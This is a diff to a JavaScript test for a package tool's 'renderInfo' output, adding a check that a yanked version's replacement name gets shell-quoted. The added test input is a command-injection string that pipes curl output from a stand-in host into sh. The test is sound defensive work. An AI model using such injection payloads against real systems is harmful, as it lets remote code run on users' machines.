@@ -91,6 +91,10 @@ describe('renderInfo', () => {
     const { answer = '' } = renderInfo({ ...DATA, version: yanked }, LOOK);
     expect(answer.split('\n')[0]).toBe('YANKED: loses tags (replacement: acme/notes@2.0.0)');
     expect(answer.split('\n').at(-1)).toBe('instead    sheaf info acme/notes@2.0.0');
+    const hostile = { ...yanked, replacement: 'x;curl${IFS}wf.example|sh' };
+    expect((renderInfo({ ...DATA, version: hostile }, LOOK).answer ?? '').split('\n').at(-1)).toBe(
+      "instead    sheaf info 'x;curl${IFS}wf.example|sh'",
+    );
   });
 
   it('adds an older version by its number, a qualified one by its registry, and none that is there', () => {
